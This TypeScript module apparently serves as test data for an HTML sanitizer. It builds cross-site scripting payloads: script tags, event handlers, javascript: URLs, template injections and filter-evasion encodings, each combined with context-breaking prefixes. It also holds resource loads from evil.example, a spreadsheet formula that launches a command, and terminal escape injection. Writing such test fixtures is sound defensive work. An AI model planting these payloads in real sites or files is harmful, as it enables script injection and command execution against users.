/** XSS payloads: each kind in each context that it is meant to break out of. */

const code = 'ran(1)';

const markup = [
	`<script>${code}</script>`,
	`<img src=x onerror=${code}>`,
	`<svg onload=${code}>`,
	`<svg><script>${code}</script></svg>`,
	`<body onload=${code}>`,
	`<iframe srcdoc="<script>parent.${code}</script>">`,
	`<iframe src="javascript:parent.${code}">`,
	`<a href="javascript:${code}">x</a>`,
	`<details open ontoggle=${code}>`,
	`<input autofocus onfocus=${code}>`,
	`<video><source onerror=${code}></video>`,
	`<math><mtext></mtext><script>${code}</script></math>`,
	`<object data="javascript:${code}">`,
	`<embed src="javascript:${code}">`,
	`<form action="javascript:${code}"><button>x</button></form>`,
	`<meta http-equiv=refresh content="0;url=javascript:${code}">`,
	`<link rel=stylesheet href="//evil.example/x.css">`,
	`<base href="//evil.example/">`,
	`<style>@import "//evil.example/x.css";</style>`,
	`<template><script>${code}</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=${code}>">`,
	`<marquee onstart=${code}>x</marquee>`,
	`<x style="animation-name:x" onanimationstart=${code}>`,
	`<img src="//evil.example/pixel.gif">`,
];

const plain = [
	'{{constructor.constructor("ran(1)")()}}',
	// biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is a template literal
	'${ran(1)}',
	'<%= ran(1) %>',
	'#{ran(1)}',
	'{% raw %}ran(1){% endraw %}',
	'javascript:ran(1)',
	'data:text/html,<script>ran(1)</script>',
	"';ran(1);//",
	'";ran(1);//',
	'`;ran(1);//',
	'\\u003cscript\\u003eran(1)\\u003c/script\\u003e',
	'&lt;script&gt;ran(1)&lt;/script&gt;',
	'&#60;img src=x onerror=ran(1)&#62;',
	'%3Cscript%3Eran(1)%3C/script%3E',
	'\u001b]0;title\u0007\u001b[31mred',
	'=cmd|"/c calc"!A1',
	'<scr<script>ipt>ran(1)</scr</script>ipt>',
	'<<img src=x onerror=ran(1)>img src=x onerror=ran(1)>',
	'<img src=x onerror=ran(1)',
	'<!--><script>ran(1)</script>-->',
	'\uff1cscript\uff1eran(1)\uff1c/script\uff1e',
];

/**
 * Prefixes that break out of an attribute, a text field, a comment, a title, a JSON property, a
 * script.
 */
const ways = [
	'',
	'">',
	"'>",
	'</textarea>',
	'</title>',
	'-->',
	'\\"}</script>',
	'</td></tr></table>',
];

export const payloads: readonly string[] = [
	...markup.flatMap((one) => ways.map((way) => way + one)),
	...plain,
];
